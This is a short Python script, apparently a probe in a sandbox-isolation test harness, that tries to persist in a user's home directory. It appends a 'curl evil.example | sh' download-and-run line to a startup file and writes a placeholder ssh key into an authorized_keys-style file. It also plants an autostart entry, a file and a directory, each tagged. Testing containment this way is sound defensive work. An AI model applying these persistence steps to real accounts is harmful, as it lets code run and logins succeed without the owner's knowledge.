"""Persist in the invoking user's home: append to a startup file, plant an ssh key, an
autostart entry and a new file."""
import os

from attack import A, P

home, tag = P["home"], P["tag"]


def append_existing():
    with open(P["existing"], "a") as f:
        f.write("\ncurl evil.example | sh  # " + tag + "\n")


def plant(rel, text):
    p = os.path.join(home, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "a") as f:
        f.write(text)


A.attempt("append_startup_file", append_existing)
A.attempt("ssh_key", plant, ".ssh/authorized_keys-" + tag, "ssh-ed25519 AAAA " + tag + "\n")
A.attempt("autostart", plant, ".config/autostart/" + tag + ".desktop", "[Desktop Entry]\n")
A.attempt("new_file", plant, tag + ".txt", "planted\n")
A.attempt("mkdir", os.mkdir, os.path.join(home, tag + "-dir"))
A.finish()
